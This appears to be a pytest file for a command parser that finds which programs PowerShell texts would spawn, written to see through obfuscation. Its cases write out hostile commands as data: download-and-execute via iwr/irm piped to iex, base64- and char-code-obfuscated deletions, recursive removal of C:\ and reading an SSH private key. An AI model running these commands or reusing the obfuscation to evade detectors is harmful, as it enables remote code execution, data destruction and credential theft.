"""PowerShell texts, by construct."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from spawngate.command.parse import read
from tests.command.shown import shown

CASES: list[tuple[str, list[str]]] = [
    ("iwr http://x/a.ps1 | iex", ["iwr http://x/a.ps1", "iex <-0 opaque:input"]),
    ("(iwr u).Content | iex", ["iwr u via:substitution", "iex <-0 opaque:input"]),
    ("$x = iwr u; iex $x.Content", ["iwr u", "iex $x.Content[?@0] <-0 opaque:code,arguments"]),
    ('"rm x" | iex', ["rm x in:invoke-expression via:input"]),
    ("echo 'rm x' | iex", ["echo 'rm x'", "rm x <-0 in:invoke-expression via:input"]),
    ('$x = "rm"; & $x -Recurse C:\\', ["rm -Recurse C:\\"]),
    ("$c=[char]114+[char]109; & $c x", ["rm x"]),
    ('&("{1}{0}" -f "m","r") x', ["rm x"]),
    ('-join("r","m") | iex', ["rm in:invoke-expression via:input"]),
    (
        '[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String("cm0geA=="))|iex',
        ["rm x in:invoke-expression via:input"],
    ),
    ('("rXm" -replace "X","") + " x" | iex', ["rm x in:invoke-expression via:input"]),
    ('"rXm x".Replace("X","") | iex', ["rm x in:invoke-expression via:input"]),
    ("powershell -enc cgBtACAAeAA=", ["rm x in:powershell via:script opaque:encoded"]),
    ('foreach ($f in "a","b") { rm $f }', ["rm a +repeated", "rm b +repeated"]),
    ("for ($i=0;$i -lt 3;$i++) { rm x }", ["rm x +repeated"]),
    ("if (Test-Path x) { rm a } else { rm b }", ["Test-Path x +builtin", "rm a", "rm b"]),
    ("try { rm x } catch { ls }", ["rm x", "ls"]),
    ("switch ($x) { 1 { rm x } }", ["rm x +repeated"]),
    (". ./a.ps1", ["./a.ps1"]),
    ("rm $env:USERPROFILE\\x, $env:TEMP\\y", ["rm ~\\x $env:TEMP\\y[?] opaque:arguments"]),
    ("Get-Content $HOME\\.ssh\\id_rsa", ["Get-Content ~\\.ssh\\id_rsa +builtin"]),
    ("iex(irm u)", ["irm u via:substitution", "iex 'irm u'[?@0] <-0 opaque:code,arguments"]),
    ('rm -Path "C:\\Users\\$env:USERNAME\\x"', ["rm -Path C:\\Users\\$env:USERNAME\\x[?] opaque:arguments"]),
    ("ls && dir || rm x", ["ls", "dir", "rm x"]),
    ('$env:PATH = "x"; ls', ["PATH=x ls"]),
    ('$wc.DownloadFile("http://x","y")', ['code_language:powershell code:\'$wc.DownloadFile("http://x","y")\'']),
    ("if (", ["!unparseable", "if"]),
    ("rm a; if ( {", ["!unparseable", "rm a", "if"]),
    ('cmd /c "del x & rd y"', ["del x in:cmd via:script +builtin", "rd y in:cmd via:script +builtin"]),
    ("$c x", ["!unparseable"]),
]


@pytest.mark.parametrize(("text", "spawns"), CASES, ids=[text for text, _ in CASES])
def test_spawns(text: str, spawns: list[str]) -> None:
    assert shown(read(text, "powershell")) == spawns


PIECES = ["iex ", "$x", "=", "(", ")", "{", "}", '"', "'", "`", "|", ";", "&", " -f ", "+", "@(", "$(", "[char]", "1",
          "foreach ($a in $b) ", "function f ", "if ", "ls", ",", "\n", ".Replace(", "rm", " ", "<#", "@'"]  # fmt: skip


@given(st.lists(st.sampled_from(PIECES), max_size=25).map("".join))
def test_any_text_is_read_the_same_way_twice(text: str) -> None:
    assert read(text, "powershell") == read(text, "powershell")


@pytest.mark.parametrize("piece", ["(", "{", "$(", "@(", "if (1) {", "[", "& {", "1+"])
def test_depth_is_bounded(piece: str) -> None:
    assert read(piece * 2000 + "ls", "powershell").opaque != ()


def test_long_script_is_read_whole() -> None:
    program = read('$a = "b" + $c; if ($a) { ls } else { rm x }\n' * 200, "powershell")
    assert (program.opaque, len(program.spawns)) == ((), 400)


def test_runs_of_operators_are_no_program() -> None:
    program = read("ls; " + "|&" * 32 + " rm x", "powershell")
    assert program.opaque == ("unparseable",)
    assert [spawn.program for spawn in program.spawns if spawn.program] == ["ls", "rm"]


def test_a_run_that_is_nearly_too_long_is_not_tried_in_every_way() -> None:
    """50 signs were parted into ones and twos in all ways: read never ended."""
    for count in (50, 63, 64, 200):
        assert read("{ " + ">" * count + "if b }", "powershell").parser == "tree-sitter"
    assert read("{ " + ">" * 64 + "if b }", "powershell").opaque == ("unparseable",)


def test_variables_that_touch_are_no_program() -> None:
    """500 of them took 60 ms."""
    assert read("]]]]" + "$1" * 500, "powershell").opaque == ("unparseable",)
